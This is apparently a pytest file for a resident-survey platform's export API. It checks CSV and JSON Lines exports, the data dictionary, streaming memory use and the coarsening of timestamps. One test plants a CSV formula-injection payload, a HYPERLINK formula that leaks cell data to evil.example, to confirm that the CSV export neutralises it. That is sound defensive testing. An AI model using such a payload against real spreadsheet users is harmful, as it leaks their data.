"""Exports over the API, streamed in constant memory, and the data dictionary."""

from __future__ import annotations

import csv
import io
import json
import tracemalloc

import pytest

import storage.exports
from flows.loader import load_campaign
from outreach.bootstrap import Services
from outreach.results.dictionary import data_dictionary
from tests.conftest import ManualClock
from tests.factories import add_resident
from tests.outreach.helpers import launch, reply
from tests.outreach.web.api.conftest import AppClient
from tests.outreach.web.api.helpers import SURVEY_YAML, auth, bulk_answers, draft, seeded_survey


async def test_csv_export_has_a_header_and_every_answer(services: Services, api: AppClient) -> None:
    await add_resident(services, phone="+48600100209", street="Długa 5")
    campaign_id = await seeded_survey(services)
    response = await api.get(
        f"/api/v1/campaigns/{campaign_id}/export.csv", headers=await auth(services, "responses:rows")
    )
    assert response.status == 200
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="park-orunski.csv"'
    text = await response.text()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert ",".join(rows[0]) == "campaign,question,respondent,value,channel,answered_at,language,district,age_band,sex"
    assert [(row["question"], row["value"], row["district"]) for row in rows[:3]] == [
        ("visits", "weekly", "Orunia"),
        ("rating", "5", "Orunia"),
        ("idea", "więcej ławek", "Orunia"),
    ]
    assert len(rows) == 9
    assert "600100" not in text and "Długa" not in text


async def test_jsonl_export_is_one_answer_a_line(services: Services, api: AppClient) -> None:
    campaign_id = await seeded_survey(services)
    response = await api.get(
        f"/api/v1/campaigns/{campaign_id}/export.jsonl", headers=await auth(services, "responses:rows")
    )
    assert response.headers["Content-Type"] == "application/x-ndjson; charset=utf-8"
    lines = [json.loads(line) for line in (await response.text()).splitlines()]
    assert len(lines) == 9
    assert lines[1]["value"] == 5 and lines[1]["district"] == "Orunia" and "attributes" not in lines[1]


async def test_the_data_dictionary_names_questions_texts_options_and_types(services: Services, api: AppClient) -> None:
    campaign_id = await draft(services)
    response = await api.get(
        f"/api/v1/campaigns/{campaign_id}/dictionary", headers=await auth(services, "responses:read")
    )
    body = await response.json()
    assert body["campaign"] == "park-orunski" and body["languages"] == ["pl", "en"]
    assert [field["name"] for field in body["fields"]][-3:] == ["district", "age_band", "sex"]
    visits, rating, idea = body["questions"]
    assert visits["value_type"] == "string: an option key"
    assert visits["options"][0] == {"key": "weekly", "label": {"pl": "co tydzień", "en": "every week"}}
    assert visits["text"] == {"pl": "Jak często bywasz w parku?", "en": "How often do you visit the park?"}
    assert rating["options"][0] == {"key": "1", "label": {"pl": "1 - źle", "en": "1 - bad"}}
    assert (rating["min"], rating["max"], rating["value_type"]) == (1, 5, "integer: min to max")
    assert idea["options"] == [] and idea["max_length"] == 500 and idea["value_type"] == "string: the answer's text"


def test_the_data_dictionary_is_a_function_for_the_cli() -> None:
    flow = load_campaign("""
name: Tak czy nie
languages: [pl, uk]
channels: [sms]
questions:
  - {id: q, type: yesno, text: {pl: "Tak?", uk: "Так?"}}
  - {id: n, type: number, integer: true, text: {pl: "Ile?", uk: "Скільки?"}}
""")
    dictionary = data_dictionary(flow, ["district"])
    assert dictionary["questions"][0]["options"] == [
        {"key": "yes", "label": {"pl": "tak", "uk": "так"}},
        {"key": "no", "label": {"pl": "nie", "uk": "ні"}},
    ]
    assert dictionary["questions"][1]["value_type"] == "integer"
    assert dictionary["campaign"] is None and dictionary["fields"][-1]["name"] == "district"
    json.dumps(dictionary)  # JSON-ready


ROWS = 20_000
BATCH = 500  # rows per database fetch in these tests: the large export is 40 batches, the small one 4


async def streamed(api: AppClient, url: str, headers: dict[str, str], *, trace: bool = True) -> tuple[int, int, int]:
    """Stream an export, keeping nothing: (peak traced memory, bytes, lines)."""
    if trace:
        tracemalloc.start(1)  # one frame per allocation: the peak is what counts, not where
    try:
        response = await api.get(url, headers=headers)
        assert response.status == 200
        size = lines = 0
        async for chunk in response.content.iter_chunked(64 * 1024):
            size += len(chunk)
            lines += chunk.count(b"\n")
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    return peak, size, lines


async def test_exports_stream_in_constant_memory(
    services: Services, api: AppClient, database_url: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    """20,000 answers (2 MB of CSV, 5 MB of JSON Lines) stream through with the peak of 2,000 (about
    1 MB traced here, mostly the test client's and server's buffers): the export holds neither the
    rows nor the output, only a batch at a time (made small here, so that ten times the batches show
    it with few rows). JSON Lines shares the reading path and is
    measured on SQLite only, to keep the suite quick."""
    monkeypatch.setattr(storage.exports, "EXPORT_BATCH", BATCH)
    small, large = await draft(services), await draft(services)
    await bulk_answers(services, small, ROWS // 20, first=ROWS)
    await bulk_answers(services, large, ROWS // 2)
    headers = await auth(services, "responses:rows")
    kinds = ("csv", "jsonl") if database_url.startswith("sqlite") else ("csv",)
    for kind in kinds:
        await streamed(api, f"/api/v1/campaigns/{small}/export.{kind}", headers, trace=False)  # first-use allocations
        small_peak, _, small_lines = await streamed(api, f"/api/v1/campaigns/{small}/export.{kind}", headers)
        peak, size, lines = await streamed(api, f"/api/v1/campaigns/{large}/export.{kind}", headers)
        header = 1 if kind == "csv" else 0
        assert (small_lines, lines) == (ROWS // 10 + header, ROWS + header)
        assert size > 2_000_000
        assert peak < size, f"{kind}: peak {peak} bytes for {size} bytes of output"
        assert peak < small_peak + 200_000, f"{kind}: peak {small_peak} for 2,000 answers, {peak} for 20,000"


async def test_csv_export_neutralises_formulas_and_jsonl_keeps_them(services: Services, api: AppClient) -> None:
    """A resident's answer and an imported attribute that a spreadsheet would run as formulas: the CSV
    gets a ' in front of each (OWASP), the JSON Lines has them exactly, the dictionary says so."""
    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Kliknij")'
    await add_resident(services, phone="+48600100211", district="@SUM(1)")
    campaign_id = await launch(services, SURVEY_YAML)
    for text in ("1", "5", hyperlink):  # visits, rating, idea
        await reply(services, "+48600100211", text)
    headers = await auth(services, "responses:rows")

    response = await api.get(f"/api/v1/campaigns/{campaign_id}/export.csv", headers=headers)
    rows = list(csv.DictReader(io.StringIO(await response.text(), newline="")))
    assert [(row["question"], row["value"], row["district"]) for row in rows] == [
        ("visits", "weekly", "'@SUM(1)"),
        ("rating", "5", "'@SUM(1)"),
        ("idea", "'" + hyperlink, "'@SUM(1)"),
    ]
    response = await api.get(f"/api/v1/campaigns/{campaign_id}/export.jsonl", headers=headers)
    lines = [json.loads(line) for line in (await response.text()).splitlines()]
    assert [(line["value"], line["district"]) for line in lines] == [
        ("weekly", "@SUM(1)"),
        (5, "@SUM(1)"),
        (hyperlink, "@SUM(1)"),
    ]
    response = await api.get(f"/api/v1/campaigns/{campaign_id}/dictionary", headers=headers)
    assert "OWASP" in (await response.json())["csv"]


async def test_exports_give_answer_times_to_the_hour_or_the_day(
    services: Services, api: AppClient, clock: ManualClock
) -> None:
    """A time to the second can be joined with the provider's log of who texted when (re-identifying
    the respondent): both exports cut it to the hour, or to the day when the setting says so."""
    clock.advance(minutes=14, seconds=3, microseconds=123456)  # 10:14:03.123456 UTC
    campaign_id = await seeded_survey(services)
    headers = await auth(services, "responses:rows")
    for precision, expected in (("hour", "2027-03-02T10:00:00+00:00"), ("day", "2027-03-02T00:00:00+00:00")):
        object.__setattr__(services.settings, "row_time_precision", precision)
        csv_text = await (await api.get(f"/api/v1/campaigns/{campaign_id}/export.csv", headers=headers)).text()
        jsonl = await (await api.get(f"/api/v1/campaigns/{campaign_id}/export.jsonl", headers=headers)).text()
        assert {row["answered_at"] for row in csv.DictReader(io.StringIO(csv_text))} == {expected}, precision
        assert {json.loads(line)["answered_at"] for line in jsonl.splitlines()} == {expected}, precision
